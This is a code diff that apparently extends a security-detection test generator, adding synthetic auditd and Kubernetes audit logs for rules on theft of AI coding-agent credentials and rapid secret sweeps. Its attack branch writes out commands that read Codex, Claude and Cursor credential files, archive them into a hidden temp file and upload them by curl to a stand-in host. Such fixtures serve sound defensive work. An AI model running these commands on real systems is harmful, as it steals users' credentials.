@@ -418,6 +418,68 @@ def poisoned(c, attack):
     return {"tap.jsonl": lines(records)}
 
 
+def execve(c, second, serial, uid, user, args):
+    """A program start in the enriched log of auditd; an argument with other than plain characters is hexadecimal."""
+    stamp = f"msg=audit({int(START.timestamp()) + int(second)}.{c.random.randint(100, 999)}:{serial})"
+    plain = lambda text: all("!" <= letter <= "~" and letter != '"' for letter in text)
+    given = " ".join(f'a{n}="{arg}"' if plain(arg) else f"a{n}={arg.encode().hex().upper()}" for n, arg in enumerate(args))
+    pid, name = 4000 + serial % 20000, args[0].rsplit("/", 1)[-1]
+    return (f"node=dev-7 type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 "
+            f"ppid=3990 pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} "
+            f'tty=pts0 ses=3 comm="{name[:15]}" exe="{args[0]}" subj=unconfined key="exec"\x1dARCH=x86_64 SYSCALL=execve '
+            f'AUID="{user}" UID="{user}" GID="{user}" EUID="{user}" SUID="{user}" FSUID="{user}" EGID="{user}" SGID="{user}" FSGID="{user}"\n'
+            f"node=dev-7 type=EXECVE {stamp}: argc={len(args)} {given}\n"
+            f'node=dev-7 type=CWD {stamp}: cwd="/home/ana"\n'
+            f'node=dev-7 type=PATH {stamp}: item=0 name="{args[0]}" inode={c.random.randint(1000, 9999)} dev=fd:00 mode=0100755 ouid=0 ogid=0 '
+            f"rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n"
+            f"node=dev-7 type=EOE {stamp}: \n")
+
+
+def agent_credentials(c, attack):
+    home = "/home/ana"
+    starts = [(0, ["/usr/bin/git", "status"]), (40, ["/usr/bin/codex", "--config", f"{home}/.codex/config.toml", "exec", "run the tests"]),
+              (90, ["/usr/bin/node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js", "--mcp-config", f"{home}/.cursor/mcp.json"]),
+              (130, ["/usr/bin/cat", f"{home}/src/app/auth.json"]), (170, ["/usr/bin/grep", "-r", "token", f"{home}/src/app"])]
+    if attack:
+        starts += [(300, ["/usr/bin/cat", f"{home}/.codex/auth.json"]),
+                   (312, ["/usr/bin/tar", "czf", "/tmp/.cache.tgz", f"{home}/.claude/.credentials.json", f"{home}/.cursor/mcp.json"]),
+                   (330, ["/usr/bin/curl", "-sF", "f=@/tmp/.cache.tgz", "https://drop.example/u"])]
+    else:
+        starts += [(300, ["/usr/bin/vim", f"{home}/.codex/auth.json"]),
+                   (312, ["/usr/bin/tar", "czf", "/tmp/app.tgz", f"{home}/src/app", f"{home}/src/mcp.json"]),
+                   (330, ["/usr/bin/curl", "-sF", "f=@/tmp/app.tgz", "https://artifacts.corp.example/u"])]
+    return {"audit.log": "".join(execve(c, second, 9100 + n, 1000, "ana", args) for n, (second, args) in enumerate(starts))}
+
+
+def secret(c, second, account, namespace, name):
+    """A secret read by a service account, in the Kubernetes audit log."""
+    return {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": c.id(), "stage": "ResponseComplete",
+            "requestURI": f"/api/v1/namespaces/{namespace}/secrets/{name}", "verb": "get",
+            "user": {"username": f"system:serviceaccount:{account[0]}:{account[1]}",
+                     "groups": ["system:serviceaccounts", f"system:serviceaccounts:{account[0]}", "system:authenticated"],
+                     "extra": {"authentication.kubernetes.io/pod-name": [f"{account[1]}-0"]}},
+            "sourceIPs": ["10.2.0.8"], "userAgent": "python-requests/2.32.3",
+            "objectRef": {"resource": "secrets", "namespace": namespace, "name": name, "apiVersion": "v1"},
+            "responseStatus": {"metadata": {}, "code": 200},
+            "requestReceivedTimestamp": c.iso(second, 6), "stageTimestamp": c.iso(second + 0.004, 6),
+            "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding"}}
+
+
+def secret_sweep(c, attack):
+    notebook, mesh = ("ml", "notebook"), ("kube-system", "generic-garbage-collector")
+    names = ["openai-api-key", "wandb-token", "registry-pull", "mlflow-db", "s3-models", "hf-token", "argocd-deploy"]
+    # The notebook looks up its own two keys all day, a controller of the cluster all of them.
+    records = [secret(c, n * 300, notebook, "ml", names[n % 2]) for n in range(48)]
+    records += [secret(c, 7200 + n * 5, mesh, "ml", name) for n, name in enumerate(names)]
+    if attack:
+        records += [secret(c, 9000 + n * 20, notebook, "ml", name) for n, name in enumerate(names)]
+    else:
+        # The same keys, but one in an hour.
+        records += [secret(c, 9000 + n * 1800, notebook, "ml", name) for n, name in enumerate(names)]
+    records.sort(key=lambda record: record["requestReceivedTimestamp"])
+    return {"audit.jsonl": lines(records)}
+
+
 RULES = {
     "prompt_injection/direct-injection": direct,
     "prompt_injection/indirect-injection": indirect,
@@ -425,6 +487,8 @@ RULES = {
     "prompt_injection/system-prompt-leaked": leaked,
     "prompt_injection/self-replication": replication,
     "mcp/poisoned-description": poisoned,
+    "credential_access/agent-config-credentials": agent_credentials,
+    "credential_access/workload-secret-sweep": secret_sweep,
     "model_poisoning/change-then-destination": change_then_destination,
     "infrastructure/first-inference-caller": first_caller,
     "infrastructure/staging-path": staging_path,
